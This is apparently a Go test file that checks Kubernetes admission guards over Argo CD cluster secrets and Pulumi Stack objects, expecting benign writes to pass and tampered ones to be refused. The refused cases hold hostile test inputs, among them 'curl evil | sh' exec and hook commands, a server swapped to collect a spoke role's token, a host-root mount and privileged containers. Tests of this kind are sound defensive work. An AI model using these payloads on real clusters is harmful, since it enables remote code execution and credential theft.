package contract

import (
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/runtime/schema"
	"sigs.k8s.io/yaml"

	"github.com/gitops-fleet/pulumi-fleet/components/delivery"
	"github.com/gitops-fleet/pulumi-fleet/components/gitopsbridge"
)

const (
	spokeServer = "https://44B867CC592634520AE8FF08A171440B.gr7.us-east-2.eks.amazonaws.com"
	spokeRole   = "arn:aws:iam::111122223333:role/gitops-fleet/spoke/spoke-a-use2-gitops"
	controller  = "system:serviceaccount:argocd:" + gitopsbridge.ApplicationControllerServiceAccount
)

var (
	secretKind     = schema.GroupVersionKind{Version: "v1", Kind: "Secret"}
	secretResource = schema.GroupVersionResource{Version: "v1", Resource: "secrets"}
	stackKind      = schema.GroupVersionKind{Group: "pulumi.com", Version: "v1", Kind: "Stack"}
	stackResource  = schema.GroupVersionResource{Group: "pulumi.com", Version: "v1", Resource: "stacks"}
)

// fleetSecrets are the hub's and a spoke's Argo CD cluster secrets exactly as GitOpsBridge writes them (and Git
// delivery commits them), parsed.
func fleetSecrets(t testing.TB) (hub, spoke map[string]any) {
	t.Helper()
	parse := func(s gitopsbridge.ClusterSecret) map[string]any {
		var m map[string]any
		if err := yaml.Unmarshal([]byte(s.YAML()), &m); err != nil {
			t.Fatal(err)
		}
		return m
	}
	hub = parse(gitopsbridge.ClusterSecret{Name: "hub", Namespace: argocdNamespace, ClusterName: "hub",
		Labels: gitopsbridge.Labels("hub", "dev", "1.33", 0, nil, nil), Server: gitopsbridge.InClusterServer,
		Config: gitopsbridge.InClusterConfig()})
	spoke = parse(gitopsbridge.ClusterSecret{Name: "spoke-a", Namespace: argocdNamespace, ClusterName: "spoke-a",
		Labels: gitopsbridge.Labels("spoke-a", "dev", "1.33", 1, map[string]bool{"karpenter": true}, nil),
		Annotations: map[string]string{"aws_region": "us-east-2", "karpenter_namespace": "karpenter",
			"addons_repo_url": "https://github.com/acme/addons"},
		Server: spokeServer, Config: gitopsbridge.SpokeConfig("spoke-a", spokeRole, "Q0EgZGF0YQ==")})
	return hub, spoke
}

// edited is a deep copy of obj with edit applied.
func edited(t *testing.T, obj map[string]any, edit func(map[string]any)) map[string]any {
	t.Helper()
	raw, err := yaml.Marshal(obj)
	if err != nil {
		t.Fatal(err)
	}
	var out map[string]any
	if err := yaml.Unmarshal(raw, &out); err != nil {
		t.Fatal(err)
	}
	edit(out)
	return out
}

func field(obj map[string]any, path ...string) map[string]any {
	m := obj
	for _, p := range path {
		next, ok := m[p].(map[string]any)
		if !ok {
			next = map[string]any{}
			m[p] = next
		}
		m = next
	}
	return m
}

// Who writes Secrets in Argo CD's namespace: the deployer (the stack's AWS caller, an assumed role, as EKS names
// it), Argo CD's server, a stage of StackDelivery and kube-controller-manager's namespace controller.
const (
	deployerRole = "arn:aws:sts::111122223333:assumed-role/platform-deployer/"
	argocdServer = "system:serviceaccount:argocd:" + gitopsbridge.ServerServiceAccount
	stage        = "system:serviceaccount:fleet-prod:fleet-prod-deploy"
	namespaces   = "system:serviceaccount:kube-system:namespace-controller"
)

// clusterSecretGuard is the hub's guard over fleetSecrets: the hub's and two spokes' registrations.
func clusterSecretGuard(t *testing.T) (g gitopsbridge.ClusterSecretGuard, hub, spoke, spokeB map[string]any) {
	t.Helper()
	hub, spoke = fleetSecrets(t)
	spokeB = edited(t, spoke, func(o map[string]any) {
		field(o, "metadata")["name"] = "spoke-b"
		field(o, "stringData")["name"] = "spoke-b"
		field(o, "metadata", "labels")["cluster_name"] = "spoke-b"
		field(o, "stringData")["config"] = gitopsbridge.SpokeConfig("spoke-b", spokeRole, "Q0EgZGF0YQ==")
	})
	var regs []gitopsbridge.ClusterSecret
	for _, o := range []map[string]any{hub, spokeB, spoke} {
		regs = append(regs, registration(t, o))
	}
	return gitopsbridge.ClusterSecretGuard{Namespace: argocdNamespace,
		Deployer:      gitopsbridge.DeployerUsername(deployerRole + "ci-run-1"),
		SecretWriters: []string{argocdServer},
		Registered:    regs}, hub, spoke, spokeB
}

// registration is the cluster secret obj as the hub registers it (its manifest parsed, as hub.registeredSecrets).
func registration(t testing.TB, obj map[string]any) gitopsbridge.ClusterSecret {
	t.Helper()
	raw, err := yaml.Marshal(obj)
	if err != nil {
		t.Fatal(err)
	}
	r, err := gitopsbridge.ParseClusterSecret(string(raw))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// synced is obj as Argo CD's application controller writes it from Git: with its tracking annotation and kubectl's
// last applied configuration.
func synced(t *testing.T, obj map[string]any) map[string]any {
	return edited(t, obj, func(o map[string]any) {
		a := field(o, "metadata", "annotations")
		a["argocd.argoproj.io/tracking-id"] = "cluster-registry-dev:/Secret:argocd/spoke-a"
		a["kubectl.kubernetes.io/last-applied-configuration"] = `{"apiVersion":"v1","kind":"Secret"}`
	})
}

// TestClusterSecretGuard: Kubernetes v0.36.1's own admission code runs the hub's guard over what the product
// writes (admitted) and over what an evil registry commit would make Argo CD write, or another identity on the hub
// would write (refused, each with its message). Deny by default: every writer but the deployer writes exactly the
// registered secrets, and only Argo CD's own writers touch its other secrets.
func TestClusterSecretGuard(t *testing.T) {
	g, hub, spoke, spokeB := clusterSecretGuard(t)
	p := g.Policy()
	deployer := deployerRole + "ci-run-2" // another session of the deployer's role
	spokeConfig := func(config string) map[string]any {
		return edited(t, spoke, func(o map[string]any) { field(o, "stringData")["config"] = config })
	}
	const exact = "exactly the one GitOpsBridge writes"
	argocdSecret := map[string]any{"apiVersion": "v1", "kind": "Secret",
		"metadata":   map[string]any{"name": "argocd-secret", "namespace": argocdNamespace},
		"stringData": map[string]any{"admin.password": "$2a$10$evil"}}
	cases := map[string]struct {
		obj  map[string]any
		user string
		want string // "" admitted, else part of the refusal
	}{
		"the hub's own secret, from Git":             {obj: synced(t, hub), user: controller},
		"the hub's own secret, from Pulumi":          {obj: hub, user: deployer},
		"a spoke's secret, from Git":                 {obj: synced(t, spoke), user: controller},
		"another spoke's secret, from Git":           {obj: spokeB, user: controller},
		"a spoke's secret, from Argo CD's server":    {obj: spoke, user: argocdServer},
		"an unregistered cluster, from the deployer": {user: deployer, obj: edited(t, spoke, func(o map[string]any) { field(o, "stringData")["name"] = "elsewhere" })},
		"an unregistered cluster, from a registry commit": {user: controller, want: "one the stack registered, by name",
			obj: edited(t, spoke, func(o map[string]any) {
				field(o, "metadata")["name"] = "rogue"
				field(o, "stringData")["name"] = "rogue"
				field(o, "metadata", "labels")["cluster_name"] = "rogue"
			})},
		"an exec-config cluster, from Argo CD's server (argocd cluster add)": {user: argocdServer, want: "one the stack registered",
			obj: edited(t, spoke, func(o map[string]any) {
				field(o, "metadata")["name"] = "cluster-evil"
				field(o, "stringData")["config"] = `{"execProviderConfig":{"command":"sh"},"tlsClientConfig":{"insecure":false}}`
			})},
		"a spoke's config with execProviderConfig, from a stage": {user: stage, want: "data differ",
			obj: spokeConfig(`{"execProviderConfig":{"command":"sh","args":["-c","curl evil | sh"],"apiVersion":` +
				`"client.authentication.k8s.io/v1beta1"},"tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
		"a registered spoke's data under the name argocd-secret": {user: controller, want: "one the stack registered, by name",
			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata")["name"] = "argocd-secret" })},
		"a spoke's name on the writer's server, which would receive the spoke role's token": {user: controller,
			want: "data differ", obj: edited(t, spoke, func(o map[string]any) {
				field(o, "stringData")["server"] = "https://collector.example.com"
			})},
		"a spoke's config with a bearer token": {user: controller, want: exact,
			obj: spokeConfig(`{"bearerToken":"stolen","tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
		"a spoke's config with a password": {user: controller, want: exact,
			obj: spokeConfig(`{"username":"admin","password":"x","tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
		"a spoke's config with a client key": {user: controller, want: exact,
			obj: spokeConfig(`{"tlsClientConfig":{"caData":"Q0EgZGF0YQ==","certData":"Y2VydA==","keyData":"a2V5"}}`)},
		"a spoke's config without TLS verification": {user: controller, want: exact,
			obj: spokeConfig(`{"awsAuthConfig":{"clusterName":"spoke-a","roleARN":"` + spokeRole + `"},` +
				`"tlsClientConfig":{"insecure":true}}`)},
		"a spoke's config with another role": {user: controller, want: exact,
			obj: spokeConfig(gitopsbridge.SpokeConfig("spoke-a", "arn:aws:iam::999999999999:role/admin", "Q0EgZGF0YQ=="))},
		"a spoke's config with an appended key": {user: controller, want: exact,
			obj: spokeConfig(strings.TrimSuffix(gitopsbridge.SpokeConfig("spoke-a", spokeRole, "Q0EgZGF0YQ=="), "}") +
				`,"execProviderConfig":{"command":"sh"}}`)},
		"a spoke whose cluster_name label names another cluster": {user: controller, want: "label cluster_name differ",
			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "labels")["cluster_name"] = "spoke-b" })},
		"an account-wide add-on switched on by a label": {user: controller, want: "label enable_ack_s3 differ",
			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "labels")["enable_ack_s3"] = "true" })},
		"an add-on switched off by a label": {user: controller, want: "label enable_karpenter differ",
			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "labels")["enable_karpenter"] = "false" })},
		"an add-on moved into Argo CD's namespace by an annotation": {user: controller, want: "annotation karpenter_namespace differ",
			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "annotations")["karpenter_namespace"] = "argocd" })},
		"another values repository by an annotation": {user: controller, want: "annotation addons_repo_url differ",
			obj: edited(t, spoke, func(o map[string]any) {
				field(o, "metadata", "annotations")["addons_repo_url"] = "https://github.com/evil/addons"
			})},
		"a registered annotation dropped": {user: controller, want: "annotation aws_region differ",
			obj: edited(t, spoke, func(o map[string]any) { delete(field(o, "metadata", "annotations"), "aws_region") })},
		"a registered spoke owned by something the garbage collector may delete": {user: controller, want: "ownerReferences differ",
			obj: edited(t, spoke, func(o map[string]any) {
				field(o, "metadata")["ownerReferences"] = []any{map[string]any{"apiVersion": "v1", "kind": "ConfigMap",
					"name": "gone", "uid": "00000000-0000-0000-0000-000000000000"}}
			})},
		"the hub's secret under another cluster_name label": {user: controller, want: "label cluster_name differ",
			obj: edited(t, hub, func(o map[string]any) { field(o, "metadata", "labels")["cluster_name"] = "spoke-a" })},
		"argocd-secret, from Argo CD's chart (the deployer)": {obj: argocdSecret, user: deployer},
		"argocd-secret, from Argo CD's server":               {obj: argocdSecret, user: argocdServer},
		"argocd-secret, from a registry commit": {obj: argocdSecret, user: controller,
			want: "may write Secrets other than cluster secrets"},
		"argocd-secret, from a stage with cluster-wide edit": {obj: argocdSecret, user: stage,
			want: "may write Secrets other than cluster secrets"},
		"argocd-secret, from the deployer's role in another account": {obj: argocdSecret,
			user: "arn:aws:sts::999999999999:assumed-role/platform-deployer/x", want: "may write Secrets other than cluster secrets"},
		"a repository credential, from a registry commit": {user: controller, want: "may write Secrets other than cluster secrets",
			obj: edited(t, spoke, func(o map[string]any) {
				field(o, "metadata", "labels")[gitopsbridge.SecretTypeLabel] = "repository"
			})},
		"a cluster secret that picks its Argo CD project": {user: controller, want: "exactly name, server and config",
			obj: edited(t, spoke, func(o map[string]any) { field(o, "stringData")["project"] = "default" })},
		"a cluster secret without config": {user: controller, want: "exactly name, server and config",
			obj: edited(t, spoke, func(o map[string]any) { delete(field(o, "stringData"), "config") })},
		"a spoke pointed at the hub itself": {user: controller, want: "only the hub's own secret",
			obj: edited(t, spoke, func(o map[string]any) { field(o, "stringData")["server"] = gitopsbridge.InClusterServer })},
		"the hub's secret with a bearer token": {user: controller, want: "only the hub's own secret",
			obj: edited(t, hub, func(o map[string]any) {
				field(o, "stringData")["config"] = `{"bearerToken":"stolen","tlsClientConfig":{"insecure":false}}`
			})},
		"the hub's secret without TLS verification, from the deployer": {user: deployer, want: "only the hub's own secret",
			obj: edited(t, hub, func(o map[string]any) {
				field(o, "stringData")["config"] = `{"tlsClientConfig":{"insecure":true}}`
			})},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			ok, msg := admit(t, p, tc.obj, nil, argocdNamespace, tc.user, secretKind, secretResource)
			expectAdmission(t, ok, msg, tc.want)
		})
	}
	// Outside Argo CD's namespace the guard does not apply: the binding selects that namespace only.
	if ok, msg := admit(t, p, edited(t, argocdSecret, func(o map[string]any) { field(o, "metadata")["namespace"] = "apps" }),
		nil, "apps", controller, secretKind, secretResource); !ok {
		t.Errorf("a Secret in another namespace: %s", msg)
	}
}

// TestClusterSecretDeletions: the guard lets a Git sync prune only a cluster secret the stack no longer registers;
// a registered cluster, or Argo CD's own secret, is deleted by the deployer or the API's own controllers only, and
// the garbage collector may finish the deletion of a secret the guard would not admit (its foregroundDeletion
// finalizer taken off).
func TestClusterSecretDeletions(t *testing.T) {
	g, _, spoke, _ := clusterSecretGuard(t)
	p := g.Policy()
	dropped := edited(t, spoke, func(o map[string]any) { field(o, "metadata")["name"] = "spoke-gone" })
	argocdSecret := map[string]any{"apiVersion": "v1", "kind": "Secret",
		"metadata": map[string]any{"name": "argocd-secret", "namespace": argocdNamespace}}
	cases := map[string]struct {
		old  map[string]any
		user string
		want string
	}{
		"an unregistered cluster, pruned by a sync":              {old: dropped, user: controller},
		"a registered cluster, deleted by the deployer":          {old: spoke, user: deployerRole + "ci-run-3"},
		"a registered cluster, deleted with its namespace":       {old: spoke, user: namespaces},
		"argocd-secret, deleted by Argo CD's server":             {old: argocdSecret, user: argocdServer},
		"a registered cluster, pruned by a sync":                 {old: spoke, user: controller, want: "deleted only by the deployer"},
		"a registered cluster, deleted through Argo CD's server": {old: spoke, user: argocdServer, want: "deleted only by the deployer"},
		"a registered cluster, deleted by a stage":               {old: spoke, user: stage, want: "deleted only by the deployer"},
		"argocd-secret, pruned by a sync":                        {old: argocdSecret, user: controller, want: "may delete Secrets other than cluster secrets"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			ok, msg := admit(t, p, nil, tc.old, argocdNamespace, tc.user, secretKind, secretResource)
			expectAdmission(t, ok, msg, tc.want)
		})
	}
	// A secret the deployer wrote and the guard does not register (pushed by another stack), being deleted with
	// propagationPolicy Foreground: the garbage collector takes its finalizer off; no one else writes it.
	terminating := edited(t, dropped, func(o map[string]any) {
		field(o, "metadata")["deletionTimestamp"] = "2026-11-26T03:50:51Z"
		field(o, "metadata")["finalizers"] = []any{"foregroundDeletion"}
	})
	finished := edited(t, terminating, func(o map[string]any) { delete(field(o, "metadata"), "finalizers") })
	for user, want := range map[string]string{
		"system:serviceaccount:kube-system:generic-garbage-collector": "",
		controller: "one the stack registered, by name",
	} {
		ok, msg := admit(t, p, finished, terminating, argocdNamespace, user, secretKind, secretResource)
		expectAdmission(t, ok, msg, want)
	}
}

// deliveryArgs is a three-stage delivery with its defaults: dev follows main, qa and prod pin commits, prod has a
// preview Stack.
func deliveryArgs() delivery.StackDeliveryArgs {
	return delivery.WithDefaults(delivery.StackDeliveryArgs{
		Project:   "fleet",
		Program:   delivery.ProgramRepository{RepoUrl: "https://github.com/acme/platform.git", RepoDir: "examples/fleet"},
		Manifests: delivery.ManifestsRepository{Owner: "acme", Repository: "platform", Path: "deploy/stacks"},
		Stages: []delivery.DeliveryStage{
			{Name: "dev", Stack: "acme/fleet/dev", Branch: "main"},
			{Name: "qa", Stack: "acme/fleet/qa", Commit: strings.Repeat("a", 40)},
			{Name: "prod", Stack: "acme/fleet/prod", Commit: strings.Repeat("a", 40), Preview: true,
				WorkspaceTemplate: map[string]any{"spec": map[string]any{"image": "pulumi/pulumi:3.259.0"}}},
		},
	}, "fleet")
}

// TestStackGuard: Kubernetes' own admission code runs StackDelivery's Stack guard over every Stack the product
// writes and a promotion of one (admitted), and over what an evil manifests commit would make Argo CD write
// (refused, each with its message).
func TestStackGuard(t *testing.T) {
	a := deliveryArgs()
	p := delivery.StackGuard(a)
	dev, prod := a.Stages[0], a.Stages[2]
	prodStack := delivery.StackObject(a, prod, false)
	spec := func(edit func(spec map[string]any)) map[string]any {
		return edited(t, prodStack, func(o map[string]any) { edit(field(o, "spec")) })
	}
	pod := func(podSpec map[string]any) map[string]any {
		return spec(func(s map[string]any) {
			s["workspaceTemplate"] = map[string]any{"spec": map[string]any{"podTemplate": map[string]any{"spec": podSpec}}}
		})
	}
	container := func(securityContext map[string]any) map[string]any {
		return pod(map[string]any{"containers": []any{map[string]any{"name": "pulumi", "securityContext": securityContext}}})
	}
	cases := map[string]struct {
		obj       map[string]any
		namespace string
		want      string
	}{
		"dev's Stack, following main":      {obj: delivery.StackObject(a, dev, false)},
		"prod's Stack":                     {obj: prodStack},
		"prod's preview Stack":             {obj: delivery.StackObject(a, prod, true)},
		"a promotion of prod":              {obj: spec(func(s map[string]any) { s["commit"] = strings.Repeat("b", 40) })},
		"prod's Stack as Kargo renders it": {obj: rendered(t, a, prod, strings.Repeat("b", 40))},
		"dev's Stack as Kargo renders it, the branch it followed replaced by the commit": {
			obj: rendered(t, a, dev, strings.Repeat("b", 40))},
		"another program": {want: "runs only the delivered program",
			obj: spec(func(s map[string]any) { s["projectRepo"] = "https://github.com/evil/miner.git" })},
		"another backend": {want: "runs only the delivered program",
			obj: spec(func(s map[string]any) { s["backend"] = "s3://evil-bucket" })},
		"another stage's stack": {want: "only the stage's own stack",
			obj: spec(func(s map[string]any) { s["stack"] = "acme/fleet/dev" })},
		"a field a later PKO adds": {want: "only the fields of PKO v2.9.0's Stack and Workspace specs",
			obj: spec(func(s map[string]any) { s["preRunHook"] = map[string]any{"command": "curl evil | sh"} })},
		"a workspace field a later PKO adds": {want: "only the fields of PKO v2.9.0's Stack and Workspace specs",
			obj: spec(func(s map[string]any) {
				s["workspaceTemplate"] = map[string]any{"spec": map[string]any{"sidecars": []any{map[string]any{"image": "evil"}}}}
			})},
		"an inline program": {want: "program repository only",
			obj: spec(func(s map[string]any) { s["programRef"] = map[string]any{"name": "evil"} })},
		"a branch of the attacker's": {want: "follows only the branch",
			obj: spec(func(s map[string]any) { delete(s, "commit"); s["branch"] = "evil" })},
		"dev's identity in prod": {want: "the stage's own ServiceAccount",
			obj: spec(func(s map[string]any) { s["serviceAccountName"] = dev.ServiceAccountName })},
		"a preview as the deploy identity": {want: "the stage's own ServiceAccount",
			obj: edited(t, delivery.StackObject(a, prod, true), func(o map[string]any) {
				field(o, "spec")["serviceAccountName"] = prod.ServiceAccountName
			})},
		"a workspace that swaps its identity": {want: "cannot change the workspace's ServiceAccount",
			obj: spec(func(s map[string]any) {
				s["workspaceTemplate"] = map[string]any{"spec": map[string]any{"serviceAccountName": "argocd-server"}}
			})},
		"a pod that swaps its identity": {want: "cannot change the workspace's ServiceAccount",
			obj: pod(map[string]any{"serviceAccountName": "argocd-server"})},
		"the operator's environment": {want: "envRefs are of type Secret or Literal",
			obj: spec(func(s map[string]any) {
				s["envRefs"] = map[string]any{"AWS_SECRET_ACCESS_KEY": map[string]any{"type": "Env", "env": map[string]any{"name": "AWS_SECRET_ACCESS_KEY"}}}
			})},
		"the host's root": {want: "cannot mount host paths",
			obj: pod(map[string]any{"volumes": []any{map[string]any{"name": "root", "hostPath": map[string]any{"path": "/"}}}})},
		"the host's network": {want: "host's network", obj: pod(map[string]any{"hostNetwork": true})},
		"a privileged container": {want: "privileged or add capabilities",
			obj: container(map[string]any{"privileged": true})},
		"an added capability": {want: "privileged or add capabilities",
			obj: container(map[string]any{"capabilities": map[string]any{"add": []any{"SYS_ADMIN"}}})},
		"an init container with privileges": {want: "privileged or add capabilities",
			obj: pod(map[string]any{"initContainers": []any{map[string]any{"name": "x", "securityContext": map[string]any{"privileged": true}}}})},
		"prod's Stack in dev's namespace": {namespace: dev.Namespace, want: "only the stage's own stack",
			obj: edited(t, prodStack, func(o map[string]any) { field(o, "metadata")["namespace"] = dev.Namespace })},
		// Deny by default (issue 36, item 3): every field but the promotion's is the one the delivery wrote.
		"the workspace's resources and labels, which a commit may size": {obj: spec(func(s map[string]any) {
			field(s, "workspaceTemplate", "spec")["resources"] = map[string]any{"requests": map[string]any{"cpu": "2"}}
			field(s, "workspaceTemplate", "metadata", "labels")["team"] = "platform"
		})},
		"a second Stack in prod's namespace": {want: "holds only the Stacks the delivery writes",
			obj: edited(t, prodStack, func(o map[string]any) { field(o, "metadata")["name"] = "fleet-prod-2" })},
		"another workspace image": {want: "spec.workspaceTemplate.spec.image differ",
			obj: spec(func(s map[string]any) { field(s, "workspaceTemplate", "spec")["image"] = "evil/pulumi:latest" })},
		"a program from a git source of the workspace's": {want: "spec.workspaceTemplate.spec.git differ",
			obj: spec(func(s map[string]any) {
				field(s, "workspaceTemplate", "spec")["git"] = map[string]any{"url": "https://github.com/evil/x.git", "ref": "main"}
			})},
		"environment for the workspace": {want: "spec.workspaceTemplate.spec.env differ",
			obj: spec(func(s map[string]any) {
				field(s, "workspaceTemplate", "spec")["env"] = []any{map[string]any{"name": "PULUMI_CONFIG", "value": "{}"}}
			})},
		"prod's stack config rewritten": {want: "spec.config differ",
			obj: spec(func(s map[string]any) { s["config"] = map[string]any{"gitops-fleet:clusters": "[]"} })},
		"destroy armed for the next deletion": {want: "spec.destroyOnFinalize differ",
			obj: spec(func(s map[string]any) { s["destroyOnFinalize"] = true })},
		"another secrets provider": {want: "spec.secretsProvider differ",
			obj: spec(func(s map[string]any) { s["secretsProvider"] = "awskms://alias/evil" })},
		"an update template": {want: "spec.updateTemplate differ",
			obj: spec(func(s map[string]any) { s["updateTemplate"] = map[string]any{"spec": map[string]any{}} })},
		"another Secret read into the environment": {want: "spec.envRefs differ",
			obj: spec(func(s map[string]any) {
				field(s, "envRefs")["STOLEN"] = map[string]any{"type": "Secret",
					"secret": map[string]any{"name": "argocd-secret", "key": "server.secretkey"}}
			})},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			ns := tc.namespace
			if ns == "" {
				ns = field(tc.obj, "metadata")["namespace"].(string)
			}
			ok, msg := admit(t, p, tc.obj, nil, ns, controller, stackKind, stackResource)
			expectAdmission(t, ok, msg, tc.want)
		})
	}
}

// rendered is a stage's Stack as its promotion renders it (renderedFile of the stage's one Stack file).
func rendered(t *testing.T, a delivery.StackDeliveryArgs, s delivery.DeliveryStage, commit string) map[string]any {
	t.Helper()
	files := delivery.StageStackFiles(a, s)
	if len(files) != 1 {
		t.Fatalf("stage %s has %d Stack files, want one", s.Name, len(files))
	}
	for path, obj := range files {
		return renderedFile(t, a, s, path, obj, commit)
	}
	return nil
}

// renderedFile is one Stack file of a stage as its promotion renders it: the yaml-update step whose path is that
// file applied (each dotted key set, the Freight's commit expression replaced by commit). Each file is updated by
// exactly one step, and the result runs the promoted commit only.
func renderedFile(t *testing.T, a delivery.StackDeliveryArgs, s delivery.DeliveryStage, path string, obj map[string]any,
	commit string) map[string]any {
	t.Helper()
	obj = edited(t, obj, func(map[string]any) {})
	steps := 0
	for _, st := range delivery.PromotionSteps(a, s) {
		st := st.(map[string]any)
		cfg := st["config"].(map[string]any)
		if st["uses"] != "yaml-update" || cfg["path"] != "./out/"+path {
			continue
		}
		steps++
		for _, u := range cfg["updates"].([]any) {
			u := u.(map[string]any)
			keys := strings.Split(u["key"].(string), ".")
			value := u["value"]
			if v, ok := value.(string); ok && strings.Contains(v, "commitFrom(") {
				value = commit
			}
			field(obj, keys[:len(keys)-1]...)[keys[len(keys)-1]] = value
		}
	}
	if steps != 1 {
		t.Fatalf("%s is updated by %d steps of %s's promotion, want one", path, steps, s.Name)
	}
	// PKO v2.9.0 runs a Stack's program from exactly one of commit and branch (operator/internal/controller/
	// pulumi/git.go, NewGitSource: `only one of "commit" or "branch" should be specified`), else stalls it.
	spec := field(obj, "spec")
	commitSet, branchSet := spec["commit"] != nil && spec["commit"] != "", spec["branch"] != nil && spec["branch"] != ""
	if commitSet == branchSet || spec["commit"] != commit {
		t.Errorf("%s rendered: commit %v, branch %v: PKO refuses it, or it is not the promoted commit", path,
			spec["commit"], spec["branch"])
	}
	return obj
}

// TestStackGuardPreviewStage: a preview stage's Stack, as Kargo renders it, runs in its target's namespace as the
// target's preview ServiceAccount and is admitted; the same Stack as the target's deploy identity, or running an
// update instead of a preview as the preview identity, is refused.
func TestStackGuardPreviewStage(t *testing.T) {
	a := delivery.WithDefaults(delivery.StackDeliveryArgs{
		Project:   "fleet",
		Program:   delivery.ProgramRepository{RepoUrl: "https://github.com/acme/platform.git", RepoDir: "examples/fleet"},
		Manifests: delivery.ManifestsRepository{Owner: "acme", Repository: "platform", Path: "deploy/stacks"},
		Stages: []delivery.DeliveryStage{
			{Name: "dev", Stack: "acme/fleet/dev", Branch: "main"},
			{Name: "qapreview", Kind: delivery.KindPreview, Target: "qa"},
			{Name: "qa", Stack: "acme/fleet/qa", Commit: strings.Repeat("a", 40), From: []string{"qapreview"}},
		},
	}, "fleet")
	p := delivery.StackGuard(a)
	preview, qa := a.Stages[1], a.Stages[2]
	stack := rendered(t, a, preview, strings.Repeat("b", 40))
	cases := map[string]struct {
		obj  map[string]any
		want string
	}{
		"qapreview's Stack as Kargo renders it": {obj: stack},
		"as qa's deploy identity": {want: "the stage's own ServiceAccount",
			obj: edited(t, stack, func(o map[string]any) { field(o, "spec")["serviceAccountName"] = qa.ServiceAccountName })},
		"an update as the preview identity": {want: "the stage's own ServiceAccount",
			obj: edited(t, stack, func(o map[string]any) { delete(field(o, "spec"), "preview") })},
	}
	if ns := field(stack, "metadata")["namespace"]; ns != qa.Namespace {
		t.Fatalf("qapreview's Stack is in %v, not in qa's namespace %s", ns, qa.Namespace)
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			ok, msg := admit(t, p, tc.obj, nil, qa.Namespace, controller, stackKind, stackResource)
			expectAdmission(t, ok, msg, tc.want)
		})
	}
}

// expectAdmission checks an admission decision: admitted when want is "", else refused with a message holding want.
func expectAdmission(t *testing.T, ok bool, msg, want string) {
	t.Helper()
	switch {
	case want == "" && !ok:
		t.Errorf("refused: %s", msg)
	case want != "" && ok:
		t.Errorf("admitted, want refused with %q", want)
	case want != "" && !strings.Contains(msg, want):
		t.Errorf("refused with %q, want %q", msg, want)
	}
}
